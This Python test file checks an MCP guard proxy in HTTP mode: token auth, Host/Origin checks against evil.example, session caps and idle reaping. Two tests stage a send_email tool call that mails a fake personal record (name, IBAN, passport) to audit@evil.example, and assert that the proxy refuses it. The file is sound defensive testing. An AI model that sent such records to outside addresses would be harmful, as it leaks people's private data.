"""The MCP guard proxy in streamable-HTTP mode: real HTTP requests and a real `mcp` HTTP client, the proxy subprocess,
the fixture server.  Bearer token, Host/Origin allow-lists, sessions only after validation, caps, idle reaping."""

from __future__ import annotations

import http.client
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")
pytest.importorskip("uvicorn")

from mcp.client.session import ClientSession
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client

ROOT = Path(__file__).resolve().parents[2]
SERVER = ROOT / "tests" / "fixtures" / "mcp_server.py"
POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"
TOKEN = "test-token-0123456789abcdef"
INIT = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "initialize",
    "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}},
}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _command(port: int, tmp: Path, *extra: str, host: str = "127.0.0.1") -> list[str]:
    return [
        sys.executable,
        "-m",
        "guard",
        "mcp-proxy",
        "--policy",
        str(POLICY),
        "--threshold",
        "0.5",
        "--audit",
        str(tmp / "audit.jsonl"),
        "--http",
        f"{host}:{port}",
        *extra,
        "--",
        sys.executable,
        str(SERVER),
    ]


class Proxy:
    """A running proxy subprocess and what a test needs of it."""

    def __init__(self, process: subprocess.Popen[bytes], port: int, tmp: Path) -> None:
        self.process, self.port, self.tmp = process, port, tmp
        self.url = f"http://127.0.0.1:{port}/mcp"

    def servers(self) -> int:
        """How many fixture server processes the proxy runs now (its children)."""
        count = 0
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            count += fields[1] == str(self.process.pid)
        return count

    def post(self, body: Any, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], str]:
        """One raw HTTP POST (auth by default; ``headers`` override or, with value "", remove)."""
        base = {
            "Host": f"127.0.0.1:{self.port}",
            "Authorization": f"Bearer {TOKEN}",
            "Content-Type": "application/json",
            "Accept": "application/json, text/event-stream",
        }
        merged = {k: v for k, v in {**base, **(headers or {})}.items() if v}
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        try:
            conn.putrequest("POST", "/mcp", skip_host=True, skip_accept_encoding=True)
            data = json.dumps(body).encode()
            for key, value in {**merged, "Content-Length": str(len(data))}.items():
                conn.putheader(key, value)
            conn.endheaders(data)
            response = conn.getresponse()
            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read().decode()
        finally:
            conn.close()


@pytest.fixture
def start(tmp_path: Path) -> Iterator[Callable[..., Proxy]]:
    started: list[subprocess.Popen[bytes]] = []
    logs: list[Any] = []

    def run(*extra: str, token: bool = True, host: str = "127.0.0.1") -> Proxy:
        port = _free_port()
        env = {**os.environ, "PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(tmp_path / "server.log")}
        env.pop("CARBGUARD_MCP_TOKEN", None)
        if token:
            env["CARBGUARD_MCP_TOKEN"] = TOKEN
        err = (tmp_path / "proxy.err").open("a")
        logs.append(err)
        command = _command(port, tmp_path, *extra, host=host)
        process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=err)
        started.append(process)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                assert process.poll() is None, (tmp_path / "proxy.err").read_text()
                time.sleep(0.1)
        return Proxy(process, port, tmp_path)

    yield run
    for process in started:
        process.terminate()
        process.wait(timeout=20)
    for err in logs:
        err.close()


async def _session(url: str, calls: list[tuple[str, dict[str, Any]]], token: str | None = TOKEN) -> list[Any]:
    headers = {"Authorization": f"Bearer {token}"} if token else None
    async with (
        create_mcp_http_client(headers=headers) as http_client,
        streamable_http_client(url, http_client=http_client) as (read, write),
        ClientSession(read, write) as client,
    ):
        await client.initialize()
        return [await client.call_tool(name, args) for name, args in calls]


def _until(check: Callable[[], bool], seconds: float = 15.0) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if check():
            return True
        time.sleep(0.1)
    return check()


def test_http_mode_refuses_exfiltration_one_guard_session_per_client(start: Callable[..., Proxy]) -> None:
    """Catches an HTTP mode that forwards a refused call or shares one guard session between two clients."""
    proxy = start()
    exfil = {"to": "audit@evil.example", "subject": "r", "body": ALICE}
    record, sent = anyio.run(_session, proxy.url, [("read_record", {"name": "alice"}), ("send_email", exfil)])
    assert record.content[0].text == ALICE and sent.is_error and "risk_budget" in sent.content[0].text
    (fresh,) = anyio.run(_session, proxy.url, [("send_email", exfil)])  # a new client: nothing private seen yet
    assert not fresh.is_error
    received = [json.loads(line)["tool"] for line in (proxy.tmp / "server.log").read_text().splitlines()]
    assert received == ["read_record", "send_email"]
    audit = [json.loads(line) for line in (proxy.tmp / "audit.jsonl").read_text().splitlines()]
    sessions = [e["session"] for e in audit]
    assert len(set(sessions)) == 2 and all(s.startswith("mcp-http-") for s in sessions)


def test_rejected_requests_never_hold_a_slot_nor_start_a_server(start: Callable[..., Proxy]) -> None:
    """Catches a gateway that starts a server or keeps a session for a request it rejects (the 64-slot exhaustion):
    100 foreign-Origin initializes, 20 non-initialize POSTs and 20 initializes the transport refuses, then a real
    client must still get in under a cap of 4 sessions."""
    proxy = start("--max-sessions", "4")
    for _ in range(100):
        status, _, _ = proxy.post(INIT, {"Origin": "http://evil.example"})
        assert status == 403
    for _ in range(20):
        assert proxy.post({"jsonrpc": "2.0", "id": 2, "method": "tools/list"})[0] == 400
    for _ in range(20):  # valid but for its Accept header: the transport refuses it, the session ends at once
        assert proxy.post(INIT, {"Accept": "text/html"})[0] == 406
    assert _until(lambda: proxy.servers() == 0)
    (record,) = anyio.run(_session, proxy.url, [("read_record", {"name": "alice"})])
    assert record.content[0].text == ALICE


def test_bearer_token_required(start: Callable[..., Proxy]) -> None:
    """Catches a gateway that serves without the token, with a wrong one, or under another scheme (and starts a server
    for it)."""
    proxy = start()
    for auth in ("", "Bearer wrong-token-0123456789", TOKEN, f"Basic {TOKEN}"):
        status, response_headers, _ = proxy.post(INIT, {"Authorization": auth})
        assert status == 401 and response_headers.get("www-authenticate") == "Bearer"
    assert proxy.servers() == 0
    status, response_headers, _ = proxy.post(INIT)
    assert status == 200 and "mcp-session-id" in response_headers


@pytest.mark.parametrize("bind", ["127.0.0.1", "0.0.0.0"])
def test_foreign_host_refused_on_every_bind(start: Callable[..., Proxy], bind: str) -> None:
    """Catches a gateway without the DNS-rebinding Host check on some bind (the old gateway had none on a non-loopback
    bind): a foreign Host with the right token is refused, an allowed one served."""
    extra = ("--allow-host", "127.0.0.1:*") if bind == "0.0.0.0" else ()
    proxy = start(*extra, host=bind)
    assert proxy.post(INIT, {"Host": "evil.example:80"})[0] == 421
    assert proxy.post(INIT, {"Host": "evil.example"})[0] == 421
    allowed = f"localhost:{proxy.port}" if bind == "127.0.0.1" else f"127.0.0.1:{proxy.port}"
    assert proxy.post(INIT, {"Host": allowed})[0] == 200


def test_non_loopback_bind_without_token_refuses_to_start(tmp_path: Path) -> None:
    """Catches a gateway that serves a non-loopback address with no authentication."""
    env = {k: v for k, v in os.environ.items() if k != "CARBGUARD_MCP_TOKEN"}
    env["PYTHONPATH"] = str(ROOT)
    done = subprocess.run(
        _command(_free_port(), tmp_path, host="0.0.0.0"), cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode != 0
    assert "without a bearer token" in done.stderr and "--token-file" in done.stderr


def test_per_client_cap_and_idle_reaping(start: Callable[..., Proxy]) -> None:
    """Catches a gateway without a per-address cap, or whose idle sessions (and their server processes) live forever."""
    proxy = start("--max-sessions-per-client", "2", "--idle-timeout", "5")  # long enough for a loaded machine
    sessions = []
    for _ in range(2):
        status, headers, _ = proxy.post(INIT)
        assert status == 200
        sessions.append(headers["mcp-session-id"])
    assert proxy.post(INIT)[0] == 429
    assert _until(lambda: proxy.servers() == 2, 10)
    assert _until(lambda: proxy.servers() == 0, 30)  # reaped after 5 s without a request in flight
    ping = {"jsonrpc": "2.0", "id": 3, "method": "ping"}
    assert proxy.post(ping, {"Mcp-Session-Id": sessions[0]})[0] == 404
    assert proxy.post(INIT)[0] == 200  # the slots are free again


def test_http_resource_read_then_sent_is_refused(start: Callable[..., Proxy]) -> None:
    """Catches an HTTP gateway whose resources/read answers reach the client unobserved (the record mailed out runs)."""
    proxy = start()

    async def go() -> tuple[str, Any]:
        headers = {"Authorization": f"Bearer {TOKEN}"}
        async with (
            create_mcp_http_client(headers=headers) as http_client,
            streamable_http_client(proxy.url, http_client=http_client) as (read, write),
            ClientSession(read, write) as client,
        ):
            await client.initialize()
            shown = (await client.read_resource("records://alice")).contents[0].text
            exfil = {"to": "audit@evil.example", "subject": "r", "body": shown}
            return shown, await client.call_tool("send_email", exfil)

    shown, sent = anyio.run(go)
    assert shown == ALICE and sent.is_error and "did not run `send_email`" in sent.content[0].text
    assert not (proxy.tmp / "server.log").exists() or "send_email" not in (proxy.tmp / "server.log").read_text()
